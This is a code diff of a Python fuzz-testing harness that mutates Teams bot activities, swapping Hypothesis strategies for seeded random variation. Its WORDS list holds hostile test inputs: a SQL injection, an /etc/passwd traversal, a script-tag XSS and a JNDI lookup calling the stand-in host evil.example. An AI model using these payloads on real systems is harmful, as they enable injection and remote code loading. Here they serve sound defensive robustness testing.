@@ -6,18 +6,14 @@ import copy
 import json
 from collections.abc import Sequence
 from dataclasses import dataclass
+from random import Random
 from typing import Any
 
-from hypothesis import strategies as st
+from dialogs import ALL
 
 Path = tuple[str | int, ...]
 
-VERBS = (
-    "answer", "submit", "change", "withdraw", "join", "joined", "board", "summary", "language", "chosen", "next",
-    "back", "reopen", "close", "extend", "pause", "resume", "finish", "cancel", "nudge", "late", "reveal", "pick",
-    "picked", "moderate", "moderated", "takeover", "facilitator", "moderator", "new", "open", "facilitate", "console",
-    "stage", "help", "", "__class__", "Next",
-)
+VERBS = (*sorted(ALL.verbs), "", "__class__", "Next", "submit ")
 HOSTILE: tuple[Any, ...] = (
     None, True, False, 0, -1, 1, 7, 2**31, 2**63, -(2**63), 2**64, 1e308, 0.1, "", " ", "0", "-1", "true", "null", [],
     {}, [[]], [None], {"a": {"b": []}}, "\x00", "\ud800", "\u202e", "\u200b", "<at>everyone</at>",
@@ -29,8 +25,20 @@ HOSTILE: tuple[Any, ...] = (
     "task/submit",
 )
 WAYS = ("put", "put", "put", "verb", "drop", "list", "grow", "rename", "borrow", "person", "person")
-TOKENS = ("good",) * 17 + ("none", "expired", "stranger", "other address")
+"""Ways to break an activity; few that are changed so are still what anybody may send."""
+TOKENS = ("good",) * 36 + ("none", "expired", "stranger", "other address")
 
+GENTLE = ("words", "words", "words", "lend", "lend", "person", "extra", "forget", "locale", "lead")
+"""Ways to change an activity into another one that Teams could well send."""
+WORDS = (
+    "Plain words", "<at>everyone</at>", "[x](https://evil.example)", "**b** _i_ `c` ~~s~~", "'; DROP TABLE answers; --",
+    "{{DATE(2026-01-01T00:00:00Z)}}", "../../etc/passwd", "=1+1", "Zażółć gęślą jaźń", "👩‍👩‍👧‍👦",
+    "\u202eright to left", "a\nb", "<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "%s {0} {who}", "null",
+    "1", "2026-12-24", "x" * 140,
+)
+"""What a person may well write, and a careless program would stumble over."""
+NOT_NEEDED = ("timestamp", "localTimestamp", "localTimezone", "locale", "entities", "replyToId", "text", "textFormat")
+LEADING = ("extend", "nudge", "late", "pause", "resume", "close", "reopen", "next", "back", "start")
 
 @dataclass(frozen=True)
 class Attempt:
@@ -84,40 +92,69 @@ def data_of(activity: dict[str, Any]) -> Any:
     return action.get("data") if isinstance(action, dict) else value.get("data")
 
 
-ANY = st.integers(0, 1_000_000)
-CHANGES = st.tuples(
-    ANY, st.sampled_from(WAYS), st.sampled_from(HOSTILE), st.integers(0, 3), ANY, st.sampled_from(VERBS)
-)
-RECIPES = st.tuples(
-    ANY, ANY, st.lists(CHANGES, max_size=5), st.sampled_from(TOKENS), st.integers(0, 19), ANY, st.integers(0, 3)
-)
-"""How an attempt is made; drawn without regard to what it is made of, which differs from session to session."""
-
-
-def made(recipe: tuple[Any, ...], corpus: Sequence[dict[str, Any]], number: int) -> Attempt:
+def made(dice: Random, corpus: Sequence[dict[str, Any]], number: int) -> Attempt:
     """One attempt, made of the activities of a real session; `number` tells it from all others."""
-    base, fresh, changes, token, cut, place, how = recipe
-    activity = copy.deepcopy(corpus[base % len(corpus)])
-    if fresh % 10:  # else it is a redelivery
+    activity = copy.deepcopy(dice.choice(corpus))
+    if dice.random() < 0.9:  # else it is a redelivery
         activity["id"] = f"f:{number}"
-    for source, way, value, within, where, verb in changes:
-        other, data = corpus[source % len(corpus)], data_of(activity)
-        if way == "verb":
-            if isinstance(data, dict):
-                data["verb"] = verb
-        elif way == "person":
-            activity["from"] = copy.deepcopy(other["from"])
-        else:
-            target = data if within and isinstance(data, dict) else activity
-            if there := paths(target):
-                changed(target, way, there[where % len(there)], value, other)
+    for _ in range(dice.randrange(4)):
+        varied(activity, dice, corpus)
+    if dice.random() < 0.3:
+        for _ in range(dice.randint(1, 5)):
+            broken(activity, dice, corpus)
     body = json.dumps(activity).encode()
-    if not cut:
-        at_byte = place % len(body)
-        start, rest = body[:at_byte], body[at_byte:]
-        body = (start, start + b"\xff" + rest, rest, b"[" * at_byte)[how]
+    if dice.random() < 0.03:
+        place = dice.randrange(len(body))
+        start, rest = body[:place], body[place:]
+        body = dice.choice((start, start + b"\xff" + rest, rest, b"[" * place))
     try:
         read = json.loads(body)
     except (ValueError, RecursionError):
         read = None
-    return Attempt(body, token, read)
+    return Attempt(body, dice.choice(TOKENS), read)
+
+
+def broken(activity: dict[str, Any], dice: Random, corpus: Sequence[dict[str, Any]]) -> None:
+    """Change one place of an activity, whatever comes of it."""
+    way, other, data = dice.choice(WAYS), dice.choice(corpus), data_of(activity)
+    if way == "verb":
+        if isinstance(data, dict):
+            data["verb"] = dice.choice(VERBS)
+    elif way == "person":
+        activity["from"] = copy.deepcopy(other["from"])
+    else:
+        target = data if isinstance(data, dict) and dice.random() < 0.75 else activity
+        if there := paths(target):
+            changed(target, way, dice.choice(there), copy.deepcopy(dice.choice(HOSTILE)), copy.deepcopy(other))
+
+
+def varied(activity: dict[str, Any], dice: Random, corpus: Sequence[dict[str, Any]]) -> None:
+    """Change an activity in a way that leaves it well-formed: other words, other sender, other verb, more or less."""
+    way, data, other = dice.choice(GENTLE), data_of(activity), dice.choice(corpus)
+    if way == "words" and isinstance(data, dict):
+        texts = [name for name, value in data.items() if _is_typed(name) and isinstance(value, str) and " " in value]
+        if texts:
+            data[dice.choice(texts)] = dice.choice(WORDS)
+    elif way == "lend" and isinstance(data, dict):
+        lent = data_of(other)
+        same = [name for name in data if _is_typed(name) and name in lent] if isinstance(lent, dict) else []
+        data |= {name: copy.deepcopy(lent[name]) for name in same}
+    elif way == "person":
+        activity["from"] = copy.deepcopy(other["from"])
+    elif way == "extra":
+        places = [activity, activity["from"], activity["channelData"], data]
+        target = dice.choice([place for place in places if isinstance(place, dict)])
+        target[f"more{dice.randrange(9)}"] = copy.deepcopy(dice.choice(HOSTILE))
+    elif way == "forget":
+        name = dice.choice(NOT_NEEDED)
+        if activity["type"] == "invoke" or name not in ("entities", "text"):
+            activity.pop(name, None)
+    elif way == "locale":
+        activity["locale"] = dice.choice(("pl-PL", "en-GB", "bg", "xx", "", None))
+    elif way == "lead" and isinstance(data, dict) and "w" in data:
+        data |= {"verb": dice.choice(LEADING), "minutes": dice.randint(1, 9), "allowed": dice.random() < 0.5}
+
+
+def _is_typed(name: str) -> bool:
+    """Whether a person fills this in."""
+    return name.startswith("a.") or name in ("institution", "country", "role", "challenge", "title", "minutes")
